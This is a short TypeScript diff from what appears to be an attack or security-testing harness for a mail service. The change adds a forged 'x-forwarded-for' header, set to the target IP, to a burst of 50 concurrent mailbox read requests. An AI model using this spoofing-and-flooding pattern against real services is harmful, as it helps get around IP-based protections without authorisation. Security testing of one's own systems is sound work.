@@ -51,7 +51,8 @@ export const WAYS: Readonly<Record<string, (target: Target) => Attack>> = {
     let token = ''
     return async () => {
       token ||= await fillMailbox({ smtpPort, ip, api })
-      const text = async (path: string) => (await fetch(`${api}/${path}`)).text()
+      const headers = { 'x-forwarded-for': ip }
+      const text = async (path: string) => (await fetch(`${api}/${path}`, { headers })).text()
       await Promise.all(Array.from({ length: 50 }, () => text(`read-mail?token=${token}&id=1`)))
       const list = await text(`check-mail?token=${token}`)
       const ids = [...list.matchAll(/"id":(\d+)/g)].map(([, id]) => id)
